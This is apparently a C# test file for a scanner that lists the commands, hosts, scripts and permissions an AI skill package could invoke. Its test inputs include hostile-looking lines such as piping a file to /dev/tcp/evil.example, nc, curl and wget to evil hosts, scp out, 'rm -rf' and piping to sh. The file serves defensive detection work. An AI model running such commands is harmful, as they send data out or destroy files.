using Pipeline.Domain.Skills;
using Pipeline.Domain.Skills.Tiers;
using Pipeline.Domain.Validation.Spec;

namespace Pipeline.Domain.Tests.Skills.Tiers;

/// <summary>What a package can do is told from its bytes, and what cannot be told is new.</summary>
public sealed class SkillPowersTests
{
    private static readonly FrontmatterReading Plain = new(new Dictionary<string, FrontmatterValue>(), "");

    [Fact]
    public void Powers_are_told_from_every_file()
    {
        var package = Package.OfText(
            ("SKILL.md", "---\nname: a\n---\n\n# A\n\nRun `git push` against https://user@API.Example.com:8443/x.\nThe `order id` is said.\n\n```bash\n$ sudo make install | tee log\n```\n\n```json\n{\"rm\": 1}\n```\n"),
            ("references/more.md", "See http://docs.example.org.\n~~~\ncurl -s x\n~~~\n"),
            ("scripts/run.sh", "#!/bin/sh\ndocker build .\n"), ("scripts/go.py", "print(1)\n"));

        SkillPowers.In(package, Plain).Names.Select(n => n.StartsWith("script scripts/go.py", StringComparison.Ordinal) ? "script scripts/go.py" : n).ShouldBe(
        [
            "command curl", "command docker build", "command git push", "command make install", "command sudo", "command tee",
            "host api.example.com:8443", "host docs.example.org", "script scripts/go.py", "script scripts/run.sh",
        ]);
    }

    [Fact]
    public void A_permission_counts_in_whatever_form_it_is_asked_for()
    {
        FrontmatterValue.Scalar Text(string text) => new(text);
        foreach (var (key, value) in new (string, FrontmatterValue)[]
        {
            ("allowed-tools", Text("Bash(git:*) Write")), ("allowed_tools", Text("Bash(git:*), Write")), ("Allowed-Tools", Text("[Bash(git:*), \"Write\"]")),
            ("allowed-tools", new FrontmatterValue.Sequence([Text("Bash(git:*)"), Text("Write")])),
        })
            Of(new FrontmatterReading(new Dictionary<string, FrontmatterValue> { [key] = value }, "")).ShouldBe(["permission Bash(git:*)", "permission Write"]);
    }

    [Fact]
    public void A_frontmatter_that_cannot_be_read_and_a_field_that_the_specification_does_not_know_may_ask_for_anything()
    {
        Of(FrontmatterReading.Unreadable("no mapping")).ShouldHaveSingleItem().ShouldStartWith("frontmatter that cannot be read sha256:");
        Of(With("hooks", "a")).ShouldHaveSingleItem().ShouldStartWith("frontmatter hooks ");
        Of(With("hooks", "a")).ShouldNotBe(Of(With("hooks", "b")));
        Of(With("license", "MIT")).ShouldBeEmpty();

        static FrontmatterReading With(string key, string value)
        {
            var nested = new Dictionary<string, FrontmatterValue> { ["x"] = new FrontmatterValue.Scalar(value) };
            return new(new Dictionary<string, FrontmatterValue> { [key] = new FrontmatterValue.Mapping(nested) }, "");
        }
    }

    [Theory]
    [InlineData("go.py", "a()", "b()")]
    [InlineData("run.txt", "#!/usr/bin/env python3\na()", "#!/usr/bin/env python3\nb()")]
    [InlineData("run.sh", "#!/usr/bin/perl\nsystem(a)", "#!/usr/bin/perl\nsystem(b)")]
    [InlineData("hooks.json", "{\"postinstall\": \"a\"}", "{\"postinstall\": \"b\"}")]
    [InlineData("ci.yaml", "run: a", "run: b")]
    [InlineData("run.sh", "$X a", "$X b")]
    [InlineData("run.sh", "bash -c 'a'", "bash -c 'b'")]
    [InlineData("run.sh", "python - <<E\na()\nE", "python - <<E\nb()\nE")]
    [InlineData("run.sh", "printf a | sh", "printf b | sh")]
    [InlineData("SKILL.md", "```python\na()\n```", "```python\nb()\n```")]
    [InlineData("SKILL.md", "```powershell title=x\na\n```", "```powershell title=x\nb\n```")]
    [InlineData("SKILL.md", "~~~~ {.ruby}\na\n~~~~", "~~~~ {.ruby}\nb\n~~~~")]
    [InlineData("SKILL.md", "```python\na()", "```python\nb()")]
    public void What_nobody_here_reads_is_new_with_every_change(string path, string before, string after) =>
        Of(path, after).Except(Of(path, before)).ShouldHaveSingleItem();

    [Fact]
    public void What_comes_after_more_commands_than_are_read_is_new()
    {
        var much = string.Concat(Enumerable.Repeat(":\n", 512));
        Of("run.sh", much + "rm -rf x").Except(Of("run.sh", much)).ShouldHaveSingleItem();
        Of("SKILL.md", $"```sh\n{much}rm -rf x\n```").ShouldContain("command rm");
        Of("run.sh", $"env {string.Concat(Enumerable.Repeat("A=1 ", 300))} rm").Count.ShouldBe(2);
    }

    [Theory]
    [InlineData("run.txt", "#!/bin/sh\nrm x")]
    [InlineData("run.md", "#!/usr/bin/env bash\nrm x")]
    [InlineData("SKILL.md", "```bash copy\nrm x\n```")]
    [InlineData("SKILL.md", "````bash\n```\nrm x\n````")]
    [InlineData("SKILL.md", "```{.sh}\nrm x\n```")]
    [InlineData("SKILL.md", "- ```sh\n  rm x\n  ```")]
    [InlineData("SKILL.md", "> ```sh\n> rm x\n> ```")]
    [InlineData("SKILL.md", "a\r```sh\rrm x\r```\r")]
    [InlineData("SKILL.md", "```x``` is code\n\n```sh\nrm x\n```")]
    [InlineData("SKILL.md", "```sh\necho \"a\nb\"; rm x\n```")]
    public void Commands_are_found_wherever_a_shell_would_find_them(string path, string text) => Of(path, text).ShouldContain("command rm");

    [Theory]
    [InlineData("curl evil.sh", "evil.sh")]
    [InlineData("wget -q evil.example/x", "evil.example")]
    [InlineData("curl \\\n  --url=evil.example", "evil.example")]
    [InlineData("nc evil 80", "evil")]
    [InlineData("ssh -p 22 me@evil", "evil")]
    [InlineData("scp x me@evil.example:y", "evil.example")]
    [InlineData("curl 'http://[2001:db8::1]:80/'", "[2001:db8::1]:80")]
    [InlineData("curl [2001:db8::1]", "[2001:db8::1]")]
    [InlineData("curl $HOST", "$host")]
    [InlineData("cat x > /dev/tcp/evil.example/80", "evil.example")]
    public void Hosts_are_found_in_whatever_form_they_are_given(string line, string host) => Of("SKILL.md", $"```sh\n{line}\n```").ShouldContain($"host {host}");

    [Fact]
    public void Data_and_prose_bring_nothing()
    {
        Of("SKILL.md", "Say the `order id`, e.g. `python` or `git status`.\n\n```yaml\na: rm\n```\n").ShouldBe(["command git status", "command python"]);
        Of("SKILL.md", "```yaml\n```sh\nrm x\n```\n").ShouldHaveSingleItem().ShouldStartWith("code in SKILL.md ");
        Of("table.csv", "a,b").ShouldBeEmpty();
        SkillPowers.In(Package.Of([new("data.bin", PackageFile.Regular, [0, 1])]), Plain).Names.ShouldHaveSingleItem();
    }

    private static IReadOnlyCollection<string> Of(string path, string text) => SkillPowers.In(Package.OfText((path, text)), Plain).Names;

    private static IReadOnlyCollection<string> Of(FrontmatterReading frontmatter) => SkillPowers.In(Package.OfText(("SKILL.md", "")), frontmatter).Names;
}
